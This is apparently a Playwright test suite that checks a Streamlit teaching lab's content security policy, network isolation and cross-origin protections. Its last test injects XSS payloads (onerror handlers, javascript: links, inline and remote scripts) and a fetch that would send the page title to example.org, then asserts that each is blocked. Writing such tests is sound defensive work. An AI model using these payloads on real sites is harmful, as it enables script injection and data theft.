"""What a page does in a browser that watches it: nothing that its policy refuses, not a word to any other host, and all of it with the network cut.

Also the other way round: what a page of somewhere else can do to a lab that its reader has open.
"""

from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from tests.browser import chromium as found
from tests.browser.driving import CHARTS, LABS, READY, until, visit
from tests.servers import other_site, running

pytestmark = pytest.mark.browser
PAGES = ("", *LABS)
WATCH = """() => {
  window.labRefused = [];
  document.addEventListener("securitypolicyviolation", ({effectiveDirective, blockedURI, sourceFile}) =>
    window.labRefused.push([effectiveDirective, blockedURI.split(":")[0], (sourceFile || "").split("/").pop().split(".")[0]]));
}"""
# Streamlit's protobuf tries a faster way to count to 2^64, and counts without it where it may not.
EXPECTED = [["script-src", "wasm-eval", "protobuf"]]


@pytest.fixture(scope="module")
def cut(chromium: Browser) -> Iterator[BrowserContext]:
    """A browser of its own that finds no name but this machine's number, and notes what its pages are refused."""
    flags = (*found.FLAGS, "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1", "--no-proxy-server")
    browser = chromium.browser_type.launch(executable_path=found.executable(), args=list(flags))
    context = browser.new_context(viewport={"width": 1280, "height": 900}, color_scheme="light", accept_downloads=True)
    context.set_default_timeout(90_000)
    context.add_init_script(f"({WATCH})()")
    yield context
    context.close()
    browser.close()


class Watched:
    """A page, whom it calls, and what goes wrong on it."""

    def __init__(self, context: BrowserContext) -> None:
        self.page: Page = context.new_page()
        self.calls: set[str] = set()
        self.errors: list[str] = []
        self.page.on("request", lambda request: self.calls.add(request.url))
        self.page.on("websocket", lambda socket: self.calls.add(socket.url))
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("console", lambda said: self.errors.append(said.text) if said.type == "error" and "404" not in said.text else None)

    def hosts(self) -> set[str]:
        return {urlsplit(url).netloc for url in self.calls if not url.startswith(("blob:", "data:"))}

    def refused(self) -> list[list[str]]:
        seen: list[list[str]] = self.page.evaluate("window.labRefused")
        return [each for each in seen if each not in EXPECTED]

    def is_clean(self, server: str) -> None:
        assert self.refused() == []
        assert self.hosts() == {urlsplit(server).netloc}
        assert self.errors == []


def test_the_cut_browser_finds_no_other_name(cut):
    page = cut.new_page()
    failed = page.evaluate("fetch('http://example.org/').then(() => '', (error) => String(error))")
    assert "Failed to fetch" in failed
    page.close()


@pytest.mark.parametrize("lab", PAGES)
def test_every_page_is_drawn_with_the_network_cut_by_its_own_host_alone_and_within_its_policy(cut, server, lab):
    watched = Watched(cut)
    visit(watched.page, f"{server}/{lab}", CHARTS.get(lab, 0))
    assert watched.page.locator("[data-testid=stException]").count() == 0
    # What is folded away is drawn as well: scripts to copy, links, the desk of the teacher.
    for unfolded in watched.page.locator("details:not([open]) > summary").all():
        if unfolded.is_visible():
            unfolded.click()
    watched.page.wait_for_timeout(500)
    watched.page.wait_for_selector(READY)
    watched.is_clean(server)
    watched.page.close()


def test_pictures_files_and_print_stay_within_the_policy(cut, server):
    watched = Watched(cut)
    page = watched.page
    visit(page, f"{server}/adam_and_adamw", CHARTS["adam_and_adamw"])
    for name in ("SVG", "PNG"):
        with page.expect_download() as download:
            page.locator(".lab-chart").first.get_by_role("button", name=name, exact=True).click()
        assert download.value.failure() is None
    with page.expect_download() as download:
        page.get_by_role("button", name="This page as a file").click()
    assert download.value.failure() is None
    page.evaluate("() => dispatchEvent(new Event('beforeprint'))")
    page.emulate_media(media="print")
    assert page.locator(".lab-sheet-layer").count() > 0
    assert len(page.pdf()) > 10_000
    watched.is_clean(server)
    page.close()


def test_a_stage_and_a_dark_page_stay_within_the_policy(cut, server):
    watched = Watched(cut)
    visit(watched.page, f"{server}/step_by_step?lab_present=true", 0)
    watched.page.emulate_media(color_scheme="dark")
    watched.page.wait_for_timeout(500)
    watched.is_clean(server)
    watched.page.close()


def test_a_class_room_with_its_code_and_picture_stays_within_the_policy(cut, tmp_path):
    with running(env={"LAB_CLASS": f"sqlite:///{tmp_path / 'rooms.sqlite'}"}) as url:
        teacher, student = Watched(cut), Watched(cut)
        visit(teacher.page, f"{url}/class_room")
        teacher.page.locator(".st-key-lab-class-open button:visible").first.click()
        teacher.page.locator(".lab-qr").wait_for()
        code = teacher.page.locator(".lab-class-code").inner_text().replace(" ", "")
        visit(student.page, f"{url}/class_room?lab_room={code}")
        assert until(lambda: any("/lab/class/" in each for each in student.calls), page=student.page)
        for each in (teacher, student):
            each.is_clean(url)
            each.page.close()


def test_a_training_stays_within_the_policy(cut):
    with running(env={"LAB_ENGINE": "", "LAB_WORKERS": "1"}) as url:
        watched = Watched(cut)
        visit(watched.page, f"{url}/training", CHARTS["training"])
        assert until(lambda: any("/lab/run/" in each for each in watched.calls), page=watched.page)
        watched.page.wait_for_timeout(2000)
        watched.is_clean(url)
        watched.page.close()


# ----------------------------------------------------------------------------------------------------- a page of somewhere else


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[str]:
    """Return the address of another site; another port of the same machine is one, and Streamlit alone would let it in."""
    with other_site("<!doctype html><title>Elsewhere</title><p>A page of another site.") as site:
        yield f"http://127.0.0.1:{site.port}"


OPENS = """(url) => new Promise((resolve) => {
  const socket = new WebSocket(url, url.includes("_stcore") ? ["streamlit"] : []);
  socket.onopen = () => resolve("opened");
  socket.onerror = () => resolve("refused");
})"""
READS = "(url) => fetch(url).then((answer) => answer.text()).then((text) => text.length, () => 'refused')"

RUNS = """(url) => new Promise((resolve) => {
  const script = Object.assign(document.createElement("script"), {src: url, onload: () => resolve("ran"), onerror: () => resolve("refused")});
  document.head.append(script);
})"""


def test_a_page_of_somewhere_else_opens_no_socket_and_reads_and_runs_nothing_of_the_lab(cut, server, elsewhere):
    page = cut.new_page()
    page.goto(elsewhere)
    place = urlsplit(server).netloc
    for path in ("_stcore/stream", "lab/run/00000000000000000000?viewer=a", "lab/class/BCDFGH"):
        assert page.evaluate(OPENS, f"ws://{place}/{path}") == "refused", path
    for path in ("", "_stcore/host-config", "_stcore/metrics", "lab/plotly.min.js"):
        assert page.evaluate(READS, f"{server}/{path}") == "refused", path
    # A page of another port is one of the same site to Cross-Origin-Resource-Policy, and of another origin to our policy.
    assert page.evaluate(RUNS, f"{server}/lab/plotly.min.js") == "refused"
    page.close()


def test_a_page_of_somewhere_else_has_no_hold_on_a_window_that_it_opens_and_the_lab_tells_it_nothing(cut, server, elsewhere):
    page = cut.new_page()
    page.goto(elsewhere)
    with page.expect_popup() as popup:
        page.evaluate("(url) => { window.theLab = window.open(url); }", f"{server}/step_by_step?lab_room=SECRET")
    lab = popup.value
    lab.wait_for_selector(READY, timeout=90_000)
    assert page.evaluate("window.theLab.closed"), "Cross-Origin-Opener-Policy"
    assert lab.evaluate("window.opener") is None
    with lab.expect_request(f"{elsewhere}/**") as asked:
        lab.evaluate("(url) => { location.href = url; }", elsewhere)
    assert "referer" not in asked.value.all_headers()
    lab.close()
    page.close()


def test_a_script_that_slips_into_a_page_does_not_run(cut, server):
    """Were some text of a link ever shown as HTML: the policy is the second wall."""
    watched = Watched(cut)
    page = watched.page
    visit(page, f"{server}/step_by_step")
    page.evaluate("""() => {
      const place = document.createElement("div");
      place.innerHTML = '<img src="data:," onerror="window.slipped = 1"><a id="slip" href="javascript:window.slipped = 2">x</a>';
      document.body.append(place);
      const script = document.createElement("script");
      script.textContent = "window.slipped = 3";
      document.body.append(script);
      const far = document.createElement("script");
      far.src = "http://example.org/x.js";
      document.body.append(far);
      document.getElementById("slip").click();
      setTimeout("window.slipped = 4", 0);
    }""")
    page.wait_for_timeout(500)
    assert page.evaluate("window.slipped") is None
    assert {each[0] for each in watched.refused()} >= {"script-src-attr", "script-src-elem", "script-src"}
    assert page.evaluate("fetch('http://example.org/?' + document.title).then(() => 'sent', () => 'refused')") == "refused"
    assert "connect-src" in {each[0] for each in watched.refused()}
    page.close()
